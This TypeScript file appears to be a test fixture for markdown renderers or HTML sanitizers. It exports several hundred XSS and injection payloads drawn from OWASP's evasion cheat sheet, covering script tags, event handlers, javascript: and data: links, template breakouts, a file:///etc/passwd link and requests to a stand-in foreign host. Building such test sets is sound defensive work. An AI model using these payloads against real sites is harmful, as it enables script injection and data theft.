/**
 * Texts that would run a program or ask another host for something, if a page took them for markup, a link or a style. Ways as
 * they are collected in OWASP's filter evasion cheat sheet and in the test suites of markdown renderers; each calls `hit()` or
 * asks for http://foreign.example.
 */
const run = 'hit()';
const foreign = 'http://foreign.example/x';

const markup = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src=${foreign}></script>`,
  `<script/src="data:,${run}"></script>`,
  `</script><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `<img src="x" onerror="${run}"/>`,
  `<IMG """><img src=x onerror=${run}>">`,
  `<img/src/onerror=${run}>`,
  `<img src=${foreign}>`,
  `<img srcset=${foreign}>`,
  `<image src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}//`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"/></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${run}></style></mglyph></math>`,
  `<body onload=${run}>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src=${foreign}></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<object data=${foreign}></object>`,
  `<embed src=${foreign}>`,
  `<video src=x onerror=${run}></video>`,
  `<video poster=${foreign}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<marquee onstart=${run}>`,
  `<form action="javascript:${run}"><button>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<isindex action="javascript:${run}">`,
  `<base href="${foreign}/">`,
  `<link rel=stylesheet href=${foreign}>`,
  `<link rel=prefetch href=${foreign}>`,
  `<meta http-equiv=refresh content="0;url=${foreign}">`,
  `<style>@import '${foreign}';</style>`,
  `<style>*{background:url(${foreign})}</style>`,
  `<div style="background:url(${foreign})">x</div>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="java&#x09;script:${run}">x</a>`,
  `<a href=" javascript:${run}">x</a>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<p contenteditable onfocus=${run} autofocus>x</p>`,
  `<dialog open onclose=${run}><form method=dialog><button>x</button></form></dialog>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e`,
  `%3Cscript%3E${run}%3C/script%3E`,
];

const links = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `javascript&colon;${run}`,
  `java\tscript:${run}`,
  `\u0001javascript:${run}`,
  `javascript://%0A${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==`,
  `vbscript:${run}`,
  `file:///etc/passwd`,
  `blob:${foreign}`,
  `//foreign.example/x`,
];

const asLinks = links.flatMap((link) => [
  link,
  `[x](${link})`,
  `[x](<${link}>)`,
  `[x]: ${link}\n\n[x]`,
  `<${link}>`,
  `![x](${link})`,
  `[![x](${link})](${link})`,
]);

const breaksOut = [
  `" onmouseover="${run}`,
  `' onfocus='${run}' autofocus='`,
  `\` onerror=${run} \``,
  `"><script>${run}</script>`,
  `'><img src=x onerror=${run}>`,
  `\${${run}}`,
  `{{constructor.constructor('${run}')()}}`,
  `{{${run}}}`,
  `<%= ${run} %>`,
  `#{${run}}`,
  `';${run};//`,
  `";${run};//`,
  `\\";${run};//`,
  `</style><script>${run}</script>`,
  `@import '${foreign}'`,
  `url(${foreign})`,
  `![x](${foreign})`,
  `![x](${foreign} "title")`,
  `\u202e<script>${run}</script>`,
  `<\u0000script>${run}</script>`.replace('\u0000', ''),
  `ʺ><script>${run}</script>`,
  `＜script＞${run}＜/script＞`,
];

const wrappers: ((text: string) => string)[] = [
  (text) => `**${text}**`,
  (text) => `> ${text}`,
  (text) => `- ${text}`,
  (text) => `\`\`\`\n${text}\n\`\`\``,
];

const plain = [...markup, ...asLinks, ...breaksOut];

/** 300 of them and some. */
export const payloads: readonly string[] = [
  ...plain,
  ...[...markup, ...breaksOut].flatMap((text, at) => [wrappers[at % 4]!(text), wrappers[(at + 1) % 4]!(text)]),
];

/** Those that fit a line of so many characters. */
export const linesUpTo = (length: number): string[] => [
  ...new Set(
    payloads.map((text) => text.replaceAll(/[\n\t\u0001]+/g, ' ').trim()).filter((text) => text.length <= length),
  ),
];
